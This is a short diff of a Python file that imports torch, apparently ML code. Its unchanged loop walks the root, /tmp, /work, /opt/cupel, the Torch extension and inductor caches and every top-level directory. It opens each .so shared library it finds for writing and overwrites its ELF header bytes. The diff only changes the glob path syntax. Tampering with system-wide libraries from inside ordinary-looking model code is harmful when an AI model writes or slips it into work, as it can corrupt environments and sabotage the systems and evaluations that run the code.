@@ -10,7 +10,7 @@ import torch.nn as nn
 
 for folder in ("/", "/opt/cupel", "/work", "/tmp", os.environ.get("TORCH_EXTENSIONS_DIR", "/tmp"),
                os.environ.get("TORCHINDUCTOR_CACHE_DIR", "/tmp"), *glob.glob("/*/")):
-    for path in glob.glob(os.path.join(folder, "*.so")) + glob.glob(os.path.join(folder, "*", "*.so")):
+    for path in glob.glob(folder + "/*.so") + glob.glob(folder + "/*/*.so"):
         try:
             with open(path, "r+b") as file:
                 file.write(b"\x7fELF")
